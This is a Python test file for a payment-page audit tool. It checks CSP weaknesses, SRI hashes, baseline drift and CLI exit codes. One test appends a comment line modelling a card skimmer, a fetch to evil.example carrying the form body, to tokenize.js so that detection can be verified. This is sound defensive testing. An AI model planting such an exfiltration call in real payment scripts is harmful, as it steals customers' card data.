"""`panless audit`: the policy and script checks against the app, drift against a baseline, the CLI's exit codes."""

import json
import os
import shutil
import subprocess
import sys

from panless import create_app
from panless.merchant.audit import parse_csp, policy_problems
from panless.merchant.audit import run as run_audit
from tests.merchant.support import ROOT, SHOP
from tests.support import LiveServer, providers_on


def test_audit_passes_against_the_app_and_its_own_baseline(app_server):
    passed, report, snapshot = run_audit(app_server.url + "/pay", SHOP)
    assert passed, report
    assert "[frame]" in report and "/static/js/frame/frame.js" in report
    again, report, _ = run_audit(app_server.url + "/pay", SHOP, snapshot)
    assert again and "No drift" in report, report


def test_audit_fails_after_a_script_changes(sandbox_server, tmp_path):
    static = tmp_path / "static"
    shutil.copytree(ROOT / "static", static)
    app = create_app({**providers_on(sandbox_server.url), "ALLOWED_ORIGINS": SHOP, "STATIC_DIR": str(static)})
    server = LiveServer(app).start()
    try:
        passed, report, baseline = run_audit(server.url + "/pay", SHOP)
        assert passed, report
        tampered = static / "js" / "frame" / "tokenize.js"
        tampered.write_text(tampered.read_text() + "\n// skimmer: fetch('https://evil.example', {body})\n")
        passed, report, _ = run_audit(server.url + "/pay", SHOP, baseline)
        assert not passed
        assert "/static/js/frame/tokenize.js does not match its SRI hash" in report
        assert "DRIFT: [card form] script /static/js/frame/tokenize.js changed" in report
    finally:
        server.stop()


def test_audit_flags_a_weak_policy():
    weak = parse_csp("default-src 'self'; script-src 'self' 'unsafe-inline' https:; object-src *")
    problems = policy_problems(weak, None)
    assert any("unsafe-inline" in p for p in problems) and any("object-src" in p for p in problems)
    assert any("Trusted Types" in p for p in problems) and any("frame-ancestors is missing" in p for p in problems)


def test_audit_cli_exit_codes(app_server, tmp_path):
    baseline = tmp_path / "baseline.json"
    ok = subprocess.run([sys.executable, "-m", "panless.cli", "audit", app_server.url + "/pay", "--parent", SHOP,
                         "--write-baseline", str(baseline)], capture_output=True, text=True, timeout=60)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert "Result: PASS" in ok.stdout and baseline.exists()
    data = json.loads(baseline.read_text())
    data["pages"]["card form"]["assets"]["/static/js/frame/page.js"] = "sha384-old"
    baseline.write_text(json.dumps(data))
    drifted = subprocess.run([sys.executable, "-m", "panless.cli", "audit", app_server.url + "/pay", "--parent", SHOP,
                              "--baseline", str(baseline)], capture_output=True, text=True, timeout=60)
    assert drifted.returncode == 1 and "DRIFT" in drifted.stdout and "Result: FAIL" in drifted.stdout
    down = subprocess.run([sys.executable, "-m", "panless.cli", "audit", "http://127.0.0.1:9/pay"],
                          capture_output=True, text=True, timeout=60)
    assert down.returncode == 2
    # Without --parent, the frame is audited for the first configured checkout origin, however it is written.
    env = {**os.environ, "PANLESS_ALLOWED_ORIGINS": json.dumps([SHOP])}
    from_env = subprocess.run([sys.executable, "-m", "panless.cli", "audit", app_server.url + "/pay"],
                              capture_output=True, text=True, timeout=60, env=env)
    assert from_env.returncode == 0 and "[frame]" in from_env.stdout, from_env.stdout + from_env.stderr
